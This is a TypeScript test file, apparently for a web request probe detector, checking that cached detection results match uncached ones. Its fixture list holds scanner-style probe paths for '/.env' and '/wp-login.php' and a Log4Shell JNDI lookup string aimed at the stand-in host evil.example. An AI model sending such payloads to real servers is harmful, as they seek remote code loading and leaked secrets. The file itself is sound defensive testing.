import { expect, test } from 'vitest';
import { createProbeFinder, probeIn } from './probe.ts';

const TARGETS = [
  '/',
  '/.env',
  '/wp-login.php',
  '/products/7',
  '/search?q=oak',
  '/?author=1',
  '/?x=%24%7Bjndi:ldap://evil.example/a%7D',
  `/${'a'.repeat(300)}/.env`,
];

test('finds the same in a URL that comes again, with any method', () => {
  const find = createProbeFinder();
  for (const method of ['GET', 'GET', 'GET', 'PROPFIND', 'TRACE', 'POST', 'POST', 'GET', 'GET'])
    for (const target of TARGETS) {
      const [path = '', query = ''] = target.split('?');
      expect(find(method, `https://shop.example${target}`, path, query)).toEqual(
        probeIn(method, path, query),
      );
    }
});

test('remembers a URL from the second time on, and not those that come once', () => {
  const find = createProbeFinder();
  const url = 'https://shop.example/wp-login.php';
  const probe = [1, 2].map(() => find('GET', url, '/wp-login.php', '')).at(-1);
  for (let n = 0; n < 50_000; n++) find('GET', `https://shop.example/products/${n}`, `/products/${n}`, '');
  // Another path would be another probe: what is known of the URL counts.
  expect(find('GET', url, '/products', '')).toBe(probe);
});
